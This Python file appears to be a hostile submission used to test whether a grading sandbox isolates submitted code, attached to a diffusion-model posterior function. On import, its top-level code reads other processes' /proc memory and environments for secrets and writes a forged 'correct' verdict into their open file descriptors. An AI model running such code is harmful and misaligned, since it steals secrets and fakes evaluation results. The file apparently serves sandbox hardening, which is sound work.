"""Hostile: reads and writes every other process's /proc memory, environment and descriptors
(the grader's tolerances, its secrets, a forged "correct" on its stdout).  Reading an environment
that its own contains (the sandbox's init process) or writing to /dev/null leaks nothing."""

import json
import os

import numpy as np

BREACHED = []
FORGED = json.dumps({"verdict": "correct", "score": 1.0}).encode()
with open("/proc/self/environ", "rb") as own:
    OWN_ENVIRON = set(own.read().split(b"\0"))
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        with open(f"/proc/{pid}/mem", "r+b") as handle:
            handle.read(1)
        BREACHED.append(f"{pid}/mem")
    except OSError:
        pass
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            if not set(handle.read().split(b"\0")) <= OWN_ENVIRON:
                BREACHED.append(f"{pid}/environ")
    except OSError:
        pass
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in fds:
        try:
            if os.readlink(f"/proc/{pid}/fd/{fd}") == "/dev/null":
                continue
            with open(f"/proc/{pid}/fd/{fd}", "wb") as handle:
                handle.write(FORGED)
            BREACHED.append(f"{pid}/fd/{fd}")
        except OSError:
            pass


def _reference(x_t, x_0, t, betas):
    alpha_bar = np.cumprod(1.0 - np.asarray(betas, dtype=float))
    prev = alpha_bar[t - 2] if t > 1 else 1.0
    beta_t = betas[t - 1]
    mean = (np.sqrt(prev) * beta_t * np.asarray(x_0)
            + np.sqrt(1.0 - beta_t) * (1.0 - prev) * np.asarray(x_t)) / (1.0 - alpha_bar[t - 1])
    return mean, beta_t * (1.0 - prev) / (1.0 - alpha_bar[t - 1])


def posterior_mean_variance(x_t, x_0, t, betas):
    """Right only if an attack above got through (the test sees "correct" and fails)."""
    if BREACHED:
        return _reference(x_t, x_0, t, betas)
    return np.zeros(np.broadcast(np.asarray(x_t), np.asarray(x_0)).shape), 0.0
